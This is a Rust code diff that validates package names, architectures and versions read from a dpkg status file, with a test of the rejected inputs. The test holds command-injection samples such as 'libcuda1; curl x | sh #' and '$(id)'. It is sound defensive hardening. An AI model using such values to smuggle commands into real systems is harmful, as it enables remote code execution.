@@ -125,9 +125,9 @@ fn package<'a>(lines: impl Iterator<Item = &'a str>) -> Option<Package> {
         let Some((field, value)) = line.split_once(':') else { continue };
         let value = value.trim();
         match field {
-            "Package" => name = Some(value),
-            "Version" => version = Some(value),
-            "Architecture" => architecture = Some(value),
+            "Package" => name = Some(value).filter(|name| is_name(name)),
+            "Version" => version = Some(value).filter(|version| is_version(version)),
+            "Architecture" => architecture = Some(value).filter(|name| is_name(name)),
             "Maintainer" => maintainer = Some(value),
             "Status" => {
                 let word = value.split_ascii_whitespace().nth(2);
@@ -145,9 +145,33 @@ fn package<'a>(lines: impl Iterator<Item = &'a str>) -> Option<Package> {
     })
 }
 
+/// Whether dpkg would accept a name of a package or of an architecture
+/// (pkg_name_is_illegal in lib/dpkg/parsehelp.c). The file may be a container's, and names
+/// go into messages and commands.
+fn is_name(name: &str) -> bool {
+    name.starts_with(|c: char| c.is_ascii_alphanumeric())
+        && name.bytes().all(|b| b.is_ascii_alphanumeric() || b"-+._".contains(&b))
+}
+
+/// The same of a version (parseversion in the same file).
+fn is_version(version: &str) -> bool {
+    !version.is_empty()
+        && version.bytes().all(|b| b.is_ascii_alphanumeric() || b"-+._:~".contains(&b))
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn a_name_that_dpkg_does_not_accept_is_no_package() {
+        for name in ["libcuda1; curl x | sh #", "$(id)", "-y", "", "a\u{1b}b"] {
+            let text = format!("Package: {name}\nStatus: install ok installed\n");
+            assert_eq!(Packages::parse(&text).present().count(), 0, "{name}");
+        }
+        let text = "Package: libcuda1\nStatus: install ok installed\nVersion: 1; id\n";
+        assert_eq!(Packages::parse(text).get("libcuda1").unwrap().version, None);
+    }
 
     #[test]
     fn only_a_removed_package_is_absent() {
